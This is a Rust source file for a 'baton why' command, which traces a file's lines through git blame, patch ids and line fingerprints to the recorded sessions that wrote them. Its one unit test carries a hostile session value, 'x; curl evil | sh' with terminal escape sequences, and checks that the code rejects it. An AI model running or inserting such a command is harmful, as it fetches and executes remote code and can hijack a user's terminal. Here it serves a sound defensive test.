//! `baton why`: from lines of a file to the sessions that wrote them. Git blames the lines;
//! one FindCommits call asks the hub about every blamed commit and every line's fingerprint
//! at once, and a second, only when some commits are not linked, about those commits' patch
//! ids (computing them is a `git log -p` of each: too slow to do for all); each line is then
//! matched by its commit, else by its commit's patch id (a rebase, a cherry-pick), else by
//! its fingerprint (a squash merge, the branch gone), and says how. The CLI (`cmd::why`) and
//! the MCP tool print the same answer.

mod render;

pub use render::{json, text};

use std::collections::{BTreeSet, HashMap};
use std::path::Path;

use anyhow::{Context as _, bail};
use baton_proto::v1::{CommitContext, CommitLink, FindCommitsRequest, FindCommitsResponse, Session};

use crate::hub::remote::{self, Hub};
use crate::project::git::blame::{self, NOT_COMMITTED};
use crate::project::git::commits::{self, fingerprint};
use crate::usecase::reservations::repo_path;

/// Fingerprints and ids one FindCommits carries, at most (the hub's caps).
const MAX_LINES_PER_CALL: usize = 50_000;
const MAX_IDS_PER_CALL: usize = 10_000;
/// A squash commit is later than the commits it squashed; clocks of two machines differ a
/// little.
const CLOCK_SLACK_US: i64 = 10 * 60 * 1_000_000;

/// `FILE[:LINE[-LINE]]`.
pub fn parse_spec(spec: &str) -> anyhow::Result<(String, Option<(usize, usize)>)> {
    if let Some((file, lines)) = spec.rsplit_once(':')
        && !lines.is_empty()
        && lines.chars().all(|c| c.is_ascii_digit() || c == '-')
    {
        let (a, b) = lines.split_once('-').unwrap_or((lines, lines));
        let parse = |s: &str| s.parse::<usize>().ok().filter(|n| *n > 0);
        let (Some(a), Some(b)) = (parse(a), parse(b)) else {
            bail!("{spec:?}: lines are FILE:LINE or FILE:FIRST-LAST, counted from 1");
        };
        if b < a {
            bail!("{spec:?}: the last line {b} comes before the first {a}");
        }
        return Ok((file.to_owned(), Some((a, b))));
    }
    Ok((spec.to_owned(), None))
}

/// How a line's session was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum How {
    /// Its commit is linked.
    Commit,
    /// Its commit has the patch id of a linked one (rebased or cherry-picked from it).
    PatchId { original: String },
    /// Its text was added by a linked commit (squash-merged from it); a line with too
    /// little text to trace (a brace, a blank line) takes the answer of the lines around it.
    Lines { original: String },
}

/// A line's answer.
#[derive(Debug, Clone)]
pub enum Found {
    NotCommitted,
    NoSession,
    /// The link (the first of several when the commit was linked ambiguously) and the others.
    Linked {
        how: How,
        link: Box<CommitLink>,
        context: Box<CommitContext>,
        others: Vec<CommitLink>,
    },
}

impl Found {
    fn key(&self) -> String {
        match self {
            Self::NotCommitted => "-".into(),
            Self::NoSession => "0".into(),
            Self::Linked { how, link, .. } => format!("{how:?} {} {}", link.commit_id, link.session_id),
        }
    }
}

/// Consecutive lines blamed on one commit with one answer.
#[derive(Debug, Clone)]
pub struct Block {
    pub first: usize,
    pub last: usize,
    pub commit: String,
    pub author: String,
    pub committed_us: i64,
    pub summary: String,
    pub found: Found,
}

/// The answer for a file.
#[derive(Debug, Clone, Default)]
pub struct Answer {
    /// Repository-relative.
    pub path: String,
    pub blocks: Vec<Block>,
    pub sessions: HashMap<String, Session>,
    /// The hub's URL, for the sessions' web pages.
    pub server: String,
    /// The hub matched more links than a reply holds: some lines may say "no session"
    /// wrongly; ask about fewer lines.
    pub truncated: bool,
}

/// Checks the file before git is asked: in the repository, tracked, text, long enough.
fn check_file(root: &Path, rel: &str, range: Option<(usize, usize)>) -> anyhow::Result<usize> {
    let full = root.join(rel);
    let meta =
        std::fs::metadata(&full).map_err(|_| anyhow::anyhow!("{rel}: no such file in the work tree"))?;
    if !meta.is_file() {
        bail!("{rel} is not a file: baton why explains lines of a file");
    }
    if crate::project::git::run(root, &["ls-files", "--error-unmatch", "--", rel], None).is_err() {
        bail!("{rel} is not in git (untracked or ignored): no commit wrote it; commit it first");
    }
    let bytes = std::fs::read(&full).with_context(|| format!("cannot read {rel}"))?;
    // git's own test: a NUL in the first 8,000 bytes makes a file binary.
    if bytes.iter().take(8000).any(|b| *b == 0) {
        bail!("{rel} is a binary file: it has no lines to explain");
    }
    let lines = bytecount_lines(&bytes);
    if let Some((a, _)) = range
        && a > lines
    {
        bail!("{rel} has {lines} lines: line {a} is past its end");
    }
    Ok(lines)
}

fn bytecount_lines(bytes: &[u8]) -> usize {
    let newlines = bytes.split(|b| *b == b'\n').count() - 1;
    newlines + usize::from(bytes.last().is_some_and(|b| *b != b'\n'))
}

/// Explains lines of `file` (as given, relative to `dir`).
pub async fn why(
    hub: &mut Hub,
    server: &str,
    project: &str,
    root: &Path,
    dir: &Path,
    file: &str,
    range: Option<(usize, usize)>,
) -> anyhow::Result<Answer> {
    let rel = repo_path(root, dir, file)?;
    let lines = check_file(root, &rel, range)?;
    let range = range.map(|(a, b)| (a, b.min(lines)));
    if lines == 0 {
        return Ok(Answer { path: rel, server: server.to_owned(), ..Answer::default() });
    }
    let blamed = blame::blame(root, &rel, range).map_err(|e| anyhow::anyhow!("git blame {rel}: {e}"))?;
    let ids: Vec<String> = blamed
        .iter()
        .map(|l| l.commit.clone())
        .filter(|c| c != NOT_COMMITTED)
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    let prints: Vec<Option<String>> = blamed
        .iter()
        .map(|l| (l.commit != NOT_COMMITTED).then(|| fingerprint(&l.path, &l.text)).flatten())
        .collect();
    let mut asked: Vec<String> =
        prints.iter().flatten().cloned().collect::<BTreeSet<_>>().into_iter().collect();
    let mut reply = FindCommitsResponse::default();
    let mut commits_left = ids.clone();
    // One call for the file's commits and lines (any file of up to 50,000 distinct lines
    // from up to 10,000 commits; more take more calls).
    while !commits_left.is_empty() || !asked.is_empty() {
        let more_lines = asked.split_off(asked.len().min(MAX_LINES_PER_CALL));
        let more_commits = commits_left.split_off(commits_left.len().min(MAX_IDS_PER_CALL));
        let request = FindCommitsRequest {
            project: project.to_owned(),
            commit_ids: std::mem::replace(&mut commits_left, more_commits),
            patch_ids: Vec::new(),
            line_fingerprints: std::mem::replace(&mut asked, more_lines),
        };
        let part = hub.commits.find_commits(request).await.map_err(remote::fail)?.into_inner();
        merge(&mut reply, part);
    }
    // The commits no session recorded may be rebased or cherry-picked copies of some that
    // were: their patch ids (a `git log -p` of those only), in a second call.
    let linked: BTreeSet<&str> =
        reply.links.iter().filter_map(|f| f.link.as_ref()).map(|l| l.commit_id.as_str()).collect();
    let unlinked: Vec<String> = ids.iter().filter(|c| !linked.contains(c.as_str())).cloned().collect();
    let described = commits::describe(root, &unlinked).map_err(|e| anyhow::anyhow!("git log: {e}"))?;
    let patch_of: HashMap<String, String> =
        described.into_iter().filter(|d| !d.patch_id.is_empty()).map(|d| (d.id, d.patch_id)).collect();
    for batch in patch_of.values().cloned().collect::<Vec<_>>().chunks(MAX_IDS_PER_CALL) {
        let request = FindCommitsRequest {
            project: project.to_owned(),
            patch_ids: batch.to_vec(),
            ..Default::default()
        };
        let part = hub.commits.find_commits(request).await.map_err(remote::fail)?.into_inner();
        merge(&mut reply, part);
    }
    let found = attribute(&blamed, &prints, &patch_of, &reply);
    let mut blocks: Vec<Block> = Vec::new();
    for (line, found) in blamed.iter().zip(found) {
        if let Some(b) = blocks.last_mut()
            && b.commit == line.commit
            && b.last + 1 == line.number
            && b.found.key() == found.key()
        {
            b.last = line.number;
            continue;
        }
        blocks.push(Block {
            first: line.number,
            last: line.number,
            commit: line.commit.clone(),
            author: line.author.clone(),
            committed_us: line.committed_us,
            summary: line.summary.clone(),
            found,
        });
    }
    let truncated = reply.truncated;
    let sessions = reply.sessions.into_iter().map(|s| (s.id.clone(), s)).collect();
    Ok(Answer { path: rel, blocks, sessions, server: server.to_owned(), truncated })
}

/// Adds a later reply's links (fingerprint matches re-indexed) to the first.
fn merge(into: &mut FindCommitsResponse, part: FindCommitsResponse) {
    let mut index: HashMap<(String, String), i32> = HashMap::new();
    for (i, f) in into.links.iter().enumerate() {
        if let Some(l) = &f.link {
            index.insert((l.commit_id.clone(), l.session_id.clone()), i32::try_from(i).unwrap_or(i32::MAX));
        }
    }
    let mut map = Vec::new();
    for f in part.links {
        // Ids go into what is printed (and a command to copy): a link that names a commit
        // or a session by anything but an id is not used.
        let Some(key) = f
            .link
            .as_ref()
            .filter(|l| commits::is_object_id(&l.commit_id) && uuid::Uuid::parse_str(&l.session_id).is_ok())
            .map(|l| (l.commit_id.clone(), l.session_id.clone()))
        else {
            map.push(-1);
            continue;
        };
        let at = *index.entry(key).or_insert_with(|| {
            into.links.push(f);
            i32::try_from(into.links.len() - 1).unwrap_or(i32::MAX)
        });
        map.push(at);
    }
    for mut m in part.fingerprints {
        m.links = m
            .links
            .iter()
            .filter_map(|i| map.get(usize::try_from(*i).ok()?).copied())
            .filter(|at| *at >= 0)
            .collect();
        into.fingerprints.push(m);
    }
    for s in part.sessions.into_iter().filter(|s| uuid::Uuid::parse_str(&s.id).is_ok()) {
        if !into.sessions.iter().any(|k| k.id == s.id) {
            into.sessions.push(s);
        }
    }
    into.truncated |= part.truncated;
}

/// Each line's answer: by its commit, its commit's patch id, its fingerprint; a line too
/// short to trace takes the answer of the traced lines around it in the same commit.
fn attribute(
    blamed: &[blame::Line],
    prints: &[Option<String>],
    patch_of: &HashMap<String, String>,
    reply: &FindCommitsResponse,
) -> Vec<Found> {
    let links: Vec<(&CommitLink, CommitContext)> = reply
        .links
        .iter()
        .filter_map(|f| Some((f.link.as_ref()?, f.context.clone().unwrap_or_default())))
        .collect();
    let by_print: HashMap<&str, &Vec<i32>> =
        reply.fingerprints.iter().map(|m| (m.fingerprint.as_str(), &m.links)).collect();
    let linked = |how: How, mut chosen: Vec<usize>| -> Found {
        // The agent's link first, then by session.
        chosen.sort_by_key(|i| (links[*i].0.made_by != 1, links[*i].0.session_id.clone()));
        chosen.dedup();
        let Some(first) = chosen.first() else { return Found::NoSession };
        let (link, context) = &links[*first];
        let how = match how {
            How::Lines { .. } => How::Lines { original: link.commit_id.clone() },
            other => other,
        };
        let others = chosen.iter().skip(1).map(|i| links[*i].0.clone()).collect();
        Found::Linked { how, link: Box::new((*link).clone()), context: Box::new(context.clone()), others }
    };
    let mut out: Vec<Found> = blamed
        .iter()
        .zip(prints)
        .map(|(line, print)| {
            if line.commit == NOT_COMMITTED {
                return Found::NotCommitted;
            }
            let direct: Vec<usize> =
                (0..links.len()).filter(|i| links[*i].0.commit_id == line.commit).collect();
            if !direct.is_empty() {
                return linked(How::Commit, direct);
            }
            if let Some(patch) = patch_of.get(&line.commit) {
                let same: Vec<usize> = (0..links.len()).filter(|i| links[*i].0.patch_id == *patch).collect();
                if let Some(i) = same.first() {
                    return linked(How::PatchId { original: links[*i].0.commit_id.clone() }, same);
                }
            }
            let Some(print) = print else { return Found::NoSession };
            let Some(candidates) = by_print.get(print.as_str()) else { return Found::NoSession };
            // Links older than the line's commit (a squash comes after what it squashed),
            // the newest of them per session.
            let mut best: HashMap<&str, usize> = HashMap::new();
            for i in candidates.iter().filter_map(|i| usize::try_from(*i).ok()).filter(|i| *i < links.len()) {
                let l = links[i].0;
                let at = l.committed_at.as_ref().map_or(0, |t| t.seconds.saturating_mul(1_000_000));
                if at > line.committed_us.saturating_add(CLOCK_SLACK_US) {
                    continue;
                }
                let newer = best.get(l.session_id.as_str()).is_none_or(|j| {
                    links[*j].0.committed_at.as_ref().map_or(0, |t| t.seconds) < at / 1_000_000
                });
                if newer {
                    best.insert(l.session_id.as_str(), i);
                }
            }
            linked(How::Lines { original: String::new() }, best.into_values().collect())
        })
        .collect();
    fill_untraced(blamed, prints, &mut out);
    out
}

/// Untraceable lines (no fingerprint) of a commit found by its lines: the answer of the
/// nearest traced line before them in the same commit, when the nearest after it is of the
/// same session (or there is none on one side).
fn fill_untraced(blamed: &[blame::Line], prints: &[Option<String>], out: &mut [Found]) {
    for i in 0..out.len() {
        if prints[i].is_some() || !matches!(out[i], Found::NoSession) || blamed[i].commit == NOT_COMMITTED {
            continue;
        }
        let same = |j: usize| blamed[j].commit == blamed[i].commit;
        let traced = |j: usize| match &out[j] {
            Found::Linked { how: How::Lines { .. }, .. } => Some(j),
            _ => None,
        };
        let before = (0..i).rev().take_while(|j| same(*j)).find_map(traced);
        let after = (i + 1..out.len()).take_while(|j| same(*j)).find_map(traced);
        let session = |j: usize| match &out[j] {
            Found::Linked { link, .. } => link.session_id.clone(),
            _ => String::new(),
        };
        let pick = match (before, after) {
            (Some(b), Some(a)) if session(b) == session(a) => Some(b),
            (Some(b), None) => Some(b),
            (None, Some(a)) => Some(a),
            _ => None,
        };
        if let Some(j) = pick {
            out[i] = out[j].clone();
        }
    }
}

#[cfg(test)]
mod tests {
    use baton_proto::v1::{CommitLink, FindCommitsResponse, FingerprintMatch, FoundCommit, Session};

    use super::merge;

    fn found(commit: &str, session: &str) -> FoundCommit {
        FoundCommit {
            link: Some(CommitLink {
                commit_id: commit.into(),
                session_id: session.into(),
                ..Default::default()
            }),
            context: None,
        }
    }

    #[test]
    fn links_that_do_not_name_ids_are_not_used() {
        let good = uuid::Uuid::now_v7().to_string();
        let part = FindCommitsResponse {
            links: vec![
                found(&"a".repeat(40), "x; curl evil | sh \u{1b}]52;"),
                found("not-a-commit", &good),
                found(&"b".repeat(40), &good),
            ],
            sessions: vec![
                Session { id: "\u{1b}[31mred".into(), ..Default::default() },
                Session { id: good.clone(), ..Default::default() },
            ],
            fingerprints: vec![FingerprintMatch { fingerprint: "0".repeat(16), links: vec![0, 1, 2] }],
            ..Default::default()
        };
        let mut into = FindCommitsResponse::default();
        merge(&mut into, part);
        assert_eq!(into.links.len(), 1);
        assert_eq!(into.links[0].link.as_ref().unwrap().commit_id, "b".repeat(40));
        assert_eq!(into.fingerprints[0].links, vec![0]);
        assert_eq!(into.sessions.len(), 1);
        assert_eq!(into.sessions[0].id, good);
    }
}
